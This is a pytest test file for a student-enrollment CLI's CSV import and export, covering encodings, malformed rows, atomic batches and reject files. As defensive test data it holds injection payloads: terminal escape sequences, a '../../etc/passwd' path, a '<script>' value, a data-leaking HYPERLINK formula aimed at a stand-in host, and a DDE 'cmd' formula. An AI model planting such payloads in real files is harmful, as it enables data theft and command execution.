"""CSV files as people send them: read as they are meant, or refused by line and not applied."""

import csv
import io
import json
import os
import signal
import threading
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from studentcli import errors
from studentcli.formats.source import FIELD_LIMIT, CsvSource
from studentcli.services.batches import BatchResult
from tests.conftest import Run
from tests.world import World

Offer = Callable[..., tuple[int, str]]

TABLES = ("students", "courses", "student_courses", "operations", "enrollment_events",
          "catalog_events")  # fmt: skip
BOTH = {("S1", "ALL/CS101-1"): "enrolled", ("S2", "ALL/CS101-1"): "enrolled"}


def fill(world: World) -> World:
    """Add three students and two courses."""
    world.student("S1", "S2", "S3")
    world.course("CS101", "MATH200", capacity=30)
    return world


@pytest.fixture(scope="module")
def filled(new_database: Callable[..., str]) -> bytes:
    """Fill one file, of which every test gets a copy."""
    url = new_database("sqlite")
    fill(World(url))
    return Path(url).read_bytes()


@pytest.fixture
def desk(new_database: Callable[..., str], filled: bytes) -> World:
    """Give a filled catalogue on SQLite."""
    url = new_database("sqlite")
    Path(url).write_bytes(filled)
    return World(url)


def rows(world: World) -> dict[str, list[str]]:
    """Give the rows of every table, to compare before and after."""
    with world.database.connect(writes=False) as connection:
        return {
            table: sorted(str(row) for row in connection.execute(text(f"SELECT * FROM {table}")))
            for table in TABLES
        }


@pytest.fixture
def offer(
    desk: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Iterator[Offer]:
    """Import a file into the desk by a command line inside this process: exit code and stderr."""
    from studentcli.cli.app import build_app
    from studentcli.cli.boundary import run as run_line

    monkeypatch.chdir(tmp_path)
    before = signal.getsignal(signal.SIGTERM)

    def call(content: bytes, *options: str) -> tuple[int, str]:
        (tmp_path / "in.csv").write_bytes(content)
        line = ["import", "in.csv", *options, "--database", desk.url]
        code = run_line(build_app(line), line)
        captured = capsys.readouterr()
        assert captured.out == ""
        return code, captured.err

    yield call
    signal.signal(signal.SIGTERM, before)


def codes(items: list[Any]) -> dict[int, str]:
    """Give the code by line of the rows that were refused."""
    found: dict[int, str] = {}
    for item in items:
        for outcome in getattr(item, "outcomes", ()):
            if outcome.is_refused:
                found[outcome.change.line] = outcome.refusals[0].code
        if getattr(item, "refusal", None) is not None:
            line = item.line if hasattr(item, "line") else item.row.line
            found[line] = item.refusal.code
    return found


def read_csv(content: str) -> list[dict[str, str]]:
    """Read CSV text as rows by column."""
    return list(csv.DictReader(io.StringIO(content)))


# ── files that look odd and mean the same ────────────────────────────────────────────────


@pytest.mark.parametrize(
    "content",
    [
        "\ufeffstudent,course\nS1,CS101\nS2,CS101\n",
        "\ufeffstudent,course\r\nS1,CS101\r\nS2,CS101\r\n",
        '\ufeff"student","course"\n"S1","CS101"\n"S2","CS101"\n',
        "student,course\rS1,CS101\rS2,CS101\r",
        "student,course\nS1,CS101\nS2,CS101",
        "student,course\n\nS1,CS101\n\n\nS2,CS101\n\n",
        "course,student\nCS101,S1\nCS101,S2\n",
        " Student , COURSE \n S1 , CS101 \nS2,CS101\n",
        "_note,student,_note2,course\n=1+1,S1,,CS101\n,S2,x,CS101\n",
        "student,course\nS1,CS101\nS2,CS101\nS1,CS101\nS2,CS101\n",
        "student,course,section,term,action\nS1,CS101,1,ALL,enroll\nS2,CS101,,,enroll\n",
    ],
    ids=["bom", "bom-crlf", "bom-quoted", "cr", "no-last-newline", "blank-lines", "order", "spaces",
         "private-columns", "every-pair-twice", "all-columns"],
)  # fmt: skip
def test_a_file_from_any_program_means_what_its_rows_say(desk: World, content: str) -> None:
    result, items = desk.import_csv(content)
    assert (result.aborted, codes(items)) == (False, {})
    assert desk.statuses() == BOTH
    assert desk.count("enrollment_events") == 2


def test_the_same_number_composed_and_decomposed_is_one_student(desk: World) -> None:
    composed = unicodedata.normalize("NFC", "Ångström-É1")
    decomposed = unicodedata.normalize("NFD", composed)
    assert composed != decomposed
    desk.import_csv(f"student,family_name\n{decomposed},A\n{composed},B\n")
    assert desk.count("students") == 4
    desk.import_csv(f"student,course\n{composed},CS101\n{decomposed},CS101\n")
    assert desk.statuses() == {(composed, "ALL/CS101-1"): "enrolled"}


@pytest.mark.parametrize("header", [b"student,course\n", b"student", b"term,course\r\n\r\n"])
def test_a_header_without_rows_is_a_batch_of_nothing(
    desk: World, offer: Offer, header: bytes
) -> None:
    code, stderr = offer(header)
    assert code == 0
    assert "in.csv: no rows of 0 rows" in stderr
    assert desk.statuses() == {}


def test_a_line_break_inside_quotes_counts_for_the_lines_that_follow(desk: World) -> None:
    content = 'student,course,_note\nS1,CS101,"two\nlines"\nNOBODY,CS101,\n'
    _, items = desk.import_csv(content)
    assert codes(items) == {4: "unknown-student"}


# ── files that cannot be read ────────────────────────────────────────────────────────────

LATIN = "student,family_name\nS1,King\nS2,Müller\n".encode("latin-1")
UNREADABLE = {
    "empty": (b"", "is empty"),
    "line-breaks-only": (b"\n\r\n\n", "is empty"),
    "bom-only": (b"\xef\xbb\xbf", "is empty"),
    "utf-16-le": ("student,course\n".encode("utf-16"), "--encoding utf-16"),
    "utf-16-be": (b"\xfe\xff" + "student,course\n".encode("utf-16-be"), "--encoding utf-16"),
    "utf-16-no-bom": ("student,course\n".encode("utf-16-le"), "NUL at byte 1"),
    "nul": (b"student,course\nS1,CS\x00101\n", "NUL at byte 20"),
    "latin-1": (LATIN, f"byte {LATIN.index(b'M') + 1} (line 3)"),
    "latin-1-crlf": (LATIN.replace(b"\n", b"\r\n"), f"byte {LATIN.index(b'M') + 3} (line 3)"),
    "latin-1-header": (b"student,pr\xe9nom\n", "byte 10 (line 1)"),
    "truncated-utf-8": (b"student,_x\nS1,\xc3", "byte 14 (line 2)"),
    "semicolon": (b"student;course\nS1;CS101\n", "--delimiter ';'"),
    "semicolon-quoted": (b'"student";"course"\n"S1";"CS101"\n', "--delimiter ';'"),
    "semicolon-bom": (b"\xef\xbb\xbfstudent;course\r\nS1;CS101\r\n", "--delimiter ';'"),
    "tab": (b"student\tcourse\nS1\tCS101\n", "--delimiter '\\t'"),
    "unclosed-quote": (b'student,course\nS1,CS101\nS2,"CS101\nS3,CS101\n', "line 3"),
    "unclosed-quote-far": (b'student,_x\nS1,"\n' + b"S2,x\n" * 50_000, "line 2"),
    "unclosed-quote-header": (b'student,"course\nS1,CS101\n', "line 1"),
    "text-after-quote": (b'student,course\nS1,"CS"101\n', "line 2"),
    "long-cell": (b"student,_x\nS1,\nS2," + b"x" * (FIELD_LIMIT + 1) + b"\n", "line 3"),
    "no-header": (b"S1,CS101\nS2,CS101\n", "first line"),
    "other-header": (b"name,title\nx,y\n", "student, course or term"),
    "private-header": (b"_student,_course\nS1,CS101\n", "student, course or term"),
    "unknown-column": (b"student,course,garde\nS1,CS101,A\n", "'garde'"),
    "unnamed-column": (b"student,course,\nS1,CS101,\n", "''"),
    "mixed-kinds": (b"student,family_name,capacity\nS1,King,3\n", "'capacity'"),
    "twice": (b"student,course,student\nS1,CS101,S2\n", "'student' twice"),
    "twice-in-other-case": (b"student,course,Student \nS1,CS101,S2\n", "'student' twice"),
    "twice-private": (b"student,_x,_x\nS1,a,b\n", "'_x' twice"),
}


@pytest.mark.parametrize("case", UNREADABLE)
def test_a_file_that_cannot_be_read_as_a_whole_is_refused_before_anything_is_written(
    desk: World, offer: Offer, case: str
) -> None:
    content, told = UNREADABLE[case]
    before = rows(desk)
    code, stderr = offer(content, "--on-error", "skip")
    assert code == 2
    assert stderr.startswith("error: in.csv")
    assert "[file-unreadable]" in stderr
    assert told in stderr
    assert rows(desk) == before


@pytest.mark.parametrize("header", [b"student,course\n", b"student,_x\n"])
def test_a_byte_that_is_no_text_far_inside_undoes_what_stood_before_it(
    desk: World, offer: Offer, header: bytes
) -> None:
    content = header + b"S7,CS101\n" * 100_000 + b"S2,\xff\n"
    before = rows(desk)
    code, stderr = offer(content, "--on-error", "skip")
    assert code == 2
    assert f"byte {len(content) - 2} (line 100002)" in stderr
    assert rows(desk) == before


def test_a_cell_of_128_kib_is_still_read(desk: World) -> None:
    result, _ = desk.import_csv(f"student,course,_x\nS1,CS101,{'x' * FIELD_LIMIT}\n")
    assert dict(result.totals) == {"enrolled": 1}


@pytest.mark.parametrize(
    "name",
    [".", "missing.csv", "/dev/zero", "/dev/null", "in.csv/x", "in\0x"],
    ids=["folder", "missing", "zero", "null", "below-a-file", "nul"],
)
def test_what_is_no_file_of_text_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "in.csv").write_text("student\n")
    with pytest.raises(errors.FileUnreadable) as caught:
        CsvSource(name)
    assert caught.value.exit_status == 2


def test_a_named_pipe_is_read_like_a_file(desk: World, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)
    writer = threading.Thread(target=pipe.write_bytes, args=(b"student,course\nS1,CS101\n",))
    writer.start()
    result, _ = desk.import_file(pipe)
    writer.join(10)
    assert dict(result.totals) == {"enrolled": 1}


@pytest.mark.parametrize(
    ("stdin", "code", "told"),
    [
        (b"student,course\nS1,CS101\n", 0, "1 enrolled of 1 rows"),
        (b"student,family_name\nS1,M\xfcller\n", 2, "error: standard input"),
    ],
)
def test_standard_input_is_read_like_a_file(
    desk: World, run: Run, stdin: bytes, code: int, told: str
) -> None:
    done = run("import", "-", database=desk.url, stdin=stdin)
    assert done.returncode == code
    assert told in done.stderr
    assert "Traceback" not in done.stderr
    assert len(desk.statuses()) == (code == 0)


def test_a_device_that_never_ends_is_refused_at_once(desk: World, run: Run) -> None:
    before = rows(desk)
    done = run("import", "/dev/zero", database=desk.url)
    assert done.returncode == 2
    assert done.stderr.startswith("error: ")
    assert "Traceback" not in done.stderr
    assert rows(desk) == before


# ── encodings and delimiters that somebody names ─────────────────────────────────────────


def source(tmp_path: Path, content: bytes, **options: str) -> CsvSource:
    """Open a file of this content."""
    path = tmp_path / "in.csv"
    path.write_bytes(content)
    return CsvSource(str(path), **options)


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252", "utf-16", "UTF8", "utf_8", "utf-8-sig"])
def test_a_named_encoding_is_read(tmp_path: Path, encoding: str) -> None:
    content = "student,family_name\nS1,Müller\n"
    mark = "\ufeff" if encoding in {"UTF8", "utf_8"} else ""
    opened = source(tmp_path, (mark + content).encode(encoding), encoding=encoding)
    assert opened.header == ["student", "family_name"]
    assert list(opened.rows()) == [(2, ["S1", "Müller"])]
    opened.close()


@pytest.mark.parametrize("encoding", ["klingon", "rot13", "base64", "", "undefined", "idna"])
def test_an_encoding_that_is_none_is_refused(tmp_path: Path, encoding: str) -> None:
    with pytest.raises(errors.Usage):
        source(tmp_path, b"student\n\xfc..\n", encoding=encoding).close()


@pytest.mark.parametrize(
    ("encoding", "good", "bad"),
    [
        ("cp1252", b"student,family_name\nS1,M\xfcller\nS2,", b"\x81\n"),
        ("utf-16", "student,family_name\nS1,Müller\nS2,".encode("utf-16"), b"\x00\xd8\n\x00"),
    ],
    ids=["cp1252", "utf-16"],
)
def test_the_byte_that_a_named_encoding_does_not_have_is_told(
    offer: Offer, encoding: str, good: bytes, bad: bytes
) -> None:
    code, stderr = offer(good + bad, "--encoding", encoding)
    assert code == 2
    assert f"byte {len(good)} (line 3)" in stderr
    assert "not UTF-8" not in stderr


@pytest.mark.parametrize(("name", "letter"), [(";", ";"), ("tab", "\t"), (r"\t", "\t"), ("|", "|")])
def test_a_named_delimiter_is_read(desk: World, offer: Offer, name: str, letter: str) -> None:
    content = b"student,course\nS1,CS101\nS2,CS101\n".replace(b",", letter.encode())
    assert offer(content, "-q", "--delimiter", name) == (0, "")
    assert desk.statuses() == BOTH


@pytest.mark.parametrize("letter", ['"', "\n", "\r", " "])
def test_a_delimiter_that_separates_nothing_is_refused(
    desk: World, offer: Offer, letter: str
) -> None:
    code, stderr = offer(b'student,"course"\nS1,CS101\n', "--delimiter", letter)
    assert code == 2
    assert stderr.startswith("error: ")
    assert desk.statuses() == {}


# ── rows that cannot be read ─────────────────────────────────────────────────────────────

HEADER = "action,student,course,term,section,effective_on,grade,override,reason"
BAD_ROWS = [
    ("enroll,S1,CS101", "bad-value"),
    ("enroll,S1,CS101,,,,,,,", "bad-value"),
    ("enroll,S1,CS101,,,,,,King, Ada", "bad-value"),
    (",S1,CS101,,,,,,", "bad-value"),
    ("enrol,S1,CS101,,,,,,", "bad-value"),
    ("ENROLL,S1,CS101,,,,,,", "bad-value"),
    ("enroll,,CS101,,,,,,", "malformed-id"),
    ("enroll,S1,,,,,,,", "malformed-id"),
    (f"enroll,{'x' * 65},CS101,,,,,,", "malformed-id"),
    ("enroll,S\x1b[2J1,CS101,,,,,,", "malformed-id"),
    ("enroll,S1,C\u009bS101,,,,,,", "malformed-id"),
    ("enroll,S1,CS101,,,2026-02-30,,,", "bad-value"),
    ("enroll,S1,CS101,,,01.09.2026,,,", "bad-value"),
    ("enroll,S1,CS101,,,\u0662\u0660\u0662\u0666-\u0660\u0669-\u0660\u0661,,,", "bad-value"),
    ("enroll,S1,CS101,,,2999-01-01,,,", "bad-value"),
    ("enroll,S1,CS101,,,,A,,", "bad-value"),
    ("complete,S1,CS101,,,,<script>,,", "unknown-grade"),
    ("enroll,S1,CS101,,,,,course-full,", "bad-value"),
    ("enroll,S1,CS101,,,,,nonsense,because", "bad-value"),
    ("enroll,S1,CS101,,,,,,\x1b]0;owned\x07", "bad-value"),
    ("enroll,S9,CS101,,,,,,", "unknown-student"),
    ("enroll,s1,CS101,,,,,,", "unknown-student"),
    ("enroll,S1,CS999,,,,,,", "unknown-course"),
    ("enroll,S1,CS101,2026XX,,,,,", "unknown-term"),
    ("enroll,S1,CS101,,7,,,,", "unknown-course"),
    ("drop,S1,CS101,,,,,,", "not-enrolled"),
]


def bad_file() -> tuple[str, dict[int, str]]:
    """Give a file in which a good row follows every bad one, and the codes by line."""
    lines, expected = [HEADER], {}
    for row, code in BAD_ROWS:
        lines += [row, "enroll,S2,MATH200,,,,,,"]
        expected[len(lines) - 1] = code
    return "\n".join(lines) + "\n", expected


def test_every_bad_row_is_told_by_its_line_and_the_good_ones_are_applied_when_asked(
    desk: World,
) -> None:
    content, expected = bad_file()
    result, items = desk.import_csv(content, on_error="skip")
    assert codes(items) == expected
    assert dict(result.totals) == {
        "refused": len(BAD_ROWS), "enrolled": 1, "unchanged": len(BAD_ROWS) - 1,
    }  # fmt: skip
    assert desk.statuses() == {("S2", "ALL/MATH200-1"): "enrolled"}


@pytest.mark.parametrize("chunk", [1, 2, 7])
def test_the_outcome_does_not_depend_on_where_a_chunk_ends(desk: World, chunk: int) -> None:
    content, expected = bad_file()
    _, items = desk.import_csv(content, on_error="skip", chunk=chunk)
    assert codes(items) == expected
    assert desk.statuses() == {("S2", "ALL/MATH200-1"): "enrolled"}


@pytest.mark.parametrize(
    ("header", "row", "code"),
    [
        ("student,family_name", "S1,King,Ada", "bad-value"),
        ("student,family_name", "S1", "bad-value"),
        ("student,family_name", "S1,\x1b[31mKing", "bad-value"),
        ("student,family_name", "S1,\u009b31mKing", "bad-value"),
        ("student,family_name", ",King", "malformed-id"),
        ("student,email", "S1,nobody", "bad-value"),
        ("student,status", "S1,ACTIVE", "bad-value"),
        ("student,max_credits", "S1,1_0", "bad-value"),
        ("student,max_credits", "S1,\u0663", "bad-value"),
        ("term,course,capacity", "ALL,CS101,9223372036854775808", "bad-value"),
        ("term,course,capacity", "ALL,CS101,-1", "bad-value"),
        ("term,course,capacity", "ALL,CS101,3.0", "bad-value"),
        ("term,course,capacity", "ALL,,3", "malformed-id"),
        ("term,course,credits", "ALL,CS101,'3", "bad-value"),
        ("term,course,status", "2026XX,CS101,open", "unknown-term"),
        ("term,starts_on", "T9,2026-02-30", "bad-value"),
        ("term,starts_on,ends_on", "T9,2026-09-02,2026-09-01", "bad-value"),
        ("term,time_zone", "T9,../../etc/passwd", "bad-value"),
    ],
)
def test_a_record_that_cannot_be_read_changes_nothing(
    desk: World, header: str, row: str, code: str
) -> None:
    before = rows(desk)
    result, items = desk.import_csv(f"{header}\n{row}\n", on_error="abort")
    assert (result.aborted, codes(items)) == (True, {2: code})
    for table in ("students", "courses", "student_courses", "catalog_events"):
        assert rows(desk)[table] == before[table]


# ── all or nothing, forecasts, repetition ────────────────────────────────────────────────


def operations(world: World) -> list[tuple[Any, ...]]:
    """Give kind, outcome and totals of the operations with a file."""
    query = "SELECT kind, outcome, totals FROM operations WHERE source IS NOT NULL ORDER BY id"
    with world.database.connect(writes=False) as connection:
        return [
            (kind, outcome, json.loads(totals) if isinstance(totals, str) else totals)
            for kind, outcome, totals in connection.execute(text(query))
        ]


def test_an_aborted_file_applies_nothing_and_leaves_one_operation_without_events(
    world: World,
) -> None:
    fill(world)
    before = rows(world)
    result, _ = world.import_csv("student,course\nS1,CS101\nNOBODY,CS101\nS2,MATH200\n")
    assert result.aborted
    assert operations(world) == [("import-enrollments", "aborted", {"enrolled": 2, "refused": 1})]
    after = rows(world)
    assert len(after.pop("operations")) == len(before.pop("operations")) + 1
    assert after == before


@pytest.mark.parametrize("on_error", ["abort", "skip"])
def test_a_forecast_writes_nothing_and_says_what_the_file_would_do(
    world: World, on_error: str
) -> None:
    fill(world)
    content = "student,course\nS1,CS101\nNOBODY,CS101\nS2,MATH200\nS2,MATH200\n"
    before = rows(world)
    forecast, _ = world.import_csv(content, dry_run=True, on_error=on_error)
    assert rows(world) == before
    assert forecast.operation_id is None
    real, _ = world.import_csv(content, on_error=on_error)
    assert (forecast.totals, forecast.aborted) == (real.totals, real.aborted)


def test_the_same_file_again_changes_nothing_and_is_recognised(world: World) -> None:
    fill(world)
    content = "student,course\nS1,CS101\nS2,CS101\n"
    first, _ = world.import_csv(content)
    enrollments, events = world.enrollments(), world.count("enrollment_events")
    again, _ = world.import_csv(content)
    assert (dict(again.totals), again.same_as) == ({"unchanged": 2}, first.operation_id)
    assert (world.enrollments(), world.count("enrollment_events")) == (enrollments, events)


def test_a_file_that_was_aborted_is_not_the_same_file_the_next_time(desk: World) -> None:
    content = "student,course\nS9,CS101\n"
    assert desk.import_csv(content)[0].aborted
    desk.student("S9")
    again: BatchResult = desk.import_csv(content)[0]
    assert (dict(again.totals), again.same_as) == ({"enrolled": 1}, None)


# ── what the command says ────────────────────────────────────────────────────────────────


def test_the_summary_names_the_database_and_the_batch_that_had_the_same_file(
    desk: World, run: Run, tmp_path: Path
) -> None:
    (tmp_path / "in.csv").write_text("student,course\nS1,CS101\n")
    first = run("import", "in.csv", database=desk.url)
    again = run("import", "in.csv", database=desk.url)
    batch = first.stderr.strip().rpartition("batch ")[2]
    assert (first.returncode, again.returncode) == (0, 0)
    assert f"1 enrolled of 1 rows into {desk.url}" in first.stderr
    assert f"1 unchanged of 1 rows into {desk.url}" in again.stderr
    assert again.stderr.strip().endswith(f"same file as batch {batch}")


def test_an_aborted_import_tells_every_line_and_that_nothing_was_applied_also_when_quiet(
    desk: World, run: Run, tmp_path: Path
) -> None:
    (tmp_path / "in.csv").write_text("student,course\nS1,CS101\nS9,CS101\nS2\n")
    done = run("-q", "import", "in.csv", database=desk.url)
    assert (done.returncode, done.stdout) == (6, "")
    assert "line 3: there is no student S9 [unknown-student]" in done.stderr
    assert "line 4: 1 cells, the header has 2 [bad-value]" in done.stderr
    assert (
        "error: nothing was applied: 2 rows of in.csv were refused [batch-refused]" in done.stderr
    )
    assert "Traceback" not in done.stderr
    assert desk.statuses() == {}


def test_a_forecast_says_would_and_changes_nothing(desk: World, offer: Offer) -> None:
    before = rows(desk)
    code, stderr = offer(b"student,course\nS1,CS101\n", "--dry-run")
    assert code == 0
    assert "forecast, nothing was changed: would be 1 enrolled of 1 rows" in stderr
    assert rows(desk) == before


def test_a_long_list_of_refused_rows_is_told_in_short_and_kept_in_full(
    desk: World, run: Run, tmp_path: Path
) -> None:
    lines = "".join(f"N{number},CS101\n" for number in range(70))
    (tmp_path / "in.csv").write_text(f"student,course\n{lines}")
    done = run("import", "in.csv", "--rejects", "r.csv", database=desk.url)
    assert done.returncode == 6
    assert done.stderr.count("\nline ") + done.stderr.startswith("line ") == 50
    assert "and 20 more refused rows; in all 70 unknown-student" in done.stderr
    assert len(read_csv((tmp_path / "r.csv").read_text())) == 70


def test_outcomes_for_programs_are_complete_and_so_is_the_error(
    desk: World, run: Run, tmp_path: Path
) -> None:
    (tmp_path / "in.csv").write_text("student,course\nS1,CS101\nS9,CS101\nS2\n")
    done = run("import", "in.csv", "--format", "json", database=desk.url)
    assert done.returncode == 6
    told = [(row["line"], row["result"], row["code"]) for row in json.loads(done.stdout)]
    assert told == [(2, "not-applied", None), (3, "refused", "unknown-student"),
                    (4, "refused", "bad-value")]  # fmt: skip
    errors_told = [json.loads(line) for line in done.stderr.splitlines() if line.startswith("{")]
    assert [error["error"]["code"] for error in errors_told] == ["batch-refused"]
    assert desk.statuses() == {}


# ── rejects ──────────────────────────────────────────────────────────────────────────────


def test_rejects_hold_the_refused_rows_as_they_stood_and_are_applied_once_mended(
    desk: World, run: Run, tmp_path: Path
) -> None:
    (tmp_path / "in.csv").write_text(
        'course,student,_note,request\nCS101,S1,,a\nCS101,S9,"two\nlines, ""quoted""",b\n'
        "MATH200,S9,,b\nCS101,S2,,c\n"
    )
    done = run("import", "in.csv", "--on-error", "skip", "--rejects", "r.csv", database=desk.url)
    assert done.returncode == 6
    assert (tmp_path / "r.csv").read_text().splitlines()[0] == (
        "course,student,_note,request,_line,_code,_reason,_request"
    )
    told = [(row["course"], row["_note"], row["_line"], row["_code"], row["_request"])
            for row in read_csv((tmp_path / "r.csv").read_text())]  # fmt: skip
    assert told == [
        ("CS101", 'two\nlines, "quoted"', "3", "unknown-student", "3"),
        ("MATH200", "", "5", "unknown-student", "3"),
    ]
    desk.student("S9")
    result, _ = desk.import_file(tmp_path / "r.csv")
    assert dict(result.totals) == {"enrolled": 2}


@pytest.mark.parametrize(
    ("header", "row"),
    [
        ("student,family_name,given_name", "S1,King, Jr.,Ada"),
        ("student,family_name,given_name", "S1,Ada"),
        ("student,course,_note", "S1,CS101"),
        ("student,course,_note", "S1,CS101,,"),
        ("student,course,_line,_code,_reason,_request", "S1,CS101"),
    ],
)
def test_a_ragged_row_that_is_fed_back_unmended_is_refused_again(
    desk: World, offer: Offer, tmp_path: Path, header: str, row: str
) -> None:
    rejects = ("--on-error", "skip", "--rejects", "r.csv")
    assert offer(f"{header}\n{row}\n".encode(), *rejects)[0] == 6
    before = rows(desk)
    code, stderr = offer((tmp_path / "r.csv").read_bytes())
    assert code == 6
    assert "line 2: " in stderr
    assert rows(desk)["students"] == before["students"]
    assert rows(desk)["student_courses"] == before["student_courses"]


def test_rejects_of_rejects_have_the_added_columns_once(
    desk: World, run: Run, tmp_path: Path
) -> None:
    (tmp_path / "r1.csv").write_text(
        "student,course,_line,_code,_reason,_request\nS9,CS101,7,unknown-student,because,7\n"
    )
    done = run("import", "r1.csv", "--on-error", "skip", "--rejects", "r2.csv", database=desk.url)
    assert done.returncode == 6
    assert (tmp_path / "r2.csv").read_text() == (
        "student,course,_line,_code,_reason,_request\n"
        "S9,CS101,2,unknown-student,there is no student S9,2\n"
    )


# ── spreadsheets ─────────────────────────────────────────────────────────────────────────

FORMULAS = ('=HYPERLINK("http://x/?"&A1,"me")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0")


def test_formulas_are_stored_as_they_are_and_come_out_so(
    desk: World, run: Run, tmp_path: Path
) -> None:
    written = io.StringIO()
    cells = ([f"F{number}", cell] for number, cell in enumerate(FORMULAS))
    csv.writer(written).writerows([["student", "family_name"], *cells])
    result, _ = desk.import_csv(written.getvalue())
    assert dict(result.totals) == {"created": len(FORMULAS)}
    done = run("export", "students", database=desk.url)
    assert done.returncode == 0
    names = {row["student"]: row["family_name"] for row in read_csv(done.stdout)}
    assert tuple(names[f"F{n}"] for n in range(len(FORMULAS))) == FORMULAS
    (tmp_path / "again.csv").write_text(done.stdout)
    again, _ = desk.import_file(tmp_path / "again.csv")
    assert dict(again.totals) == {"unchanged": len(FORMULAS) + 3}


def test_an_excel_export_holds_no_cell_that_a_spreadsheet_would_run(desk: World, run: Run) -> None:
    for number, cell in enumerate(FORMULAS):
        desk.student(f"F{number}", family_name=cell)
    desk.student("-17", "00731", family_name="O'Neil-King")
    done = run("export", "students", "--excel", database=desk.url)
    assert done.returncode == 0
    assert "Traceback" not in done.stderr
    lines = list(csv.reader(io.StringIO(done.stdout)))
    assert not [cell for line in lines for cell in line if cell.startswith(tuple("=+-@\t\r"))]
    found = {line[0]: line[2] for line in lines}
    assert [found[f"F{n}"] for n in range(len(FORMULAS))] == [f"'{cell}" for cell in FORMULAS]
    assert found["00731"] == found["'-17"] == "O'Neil-King"
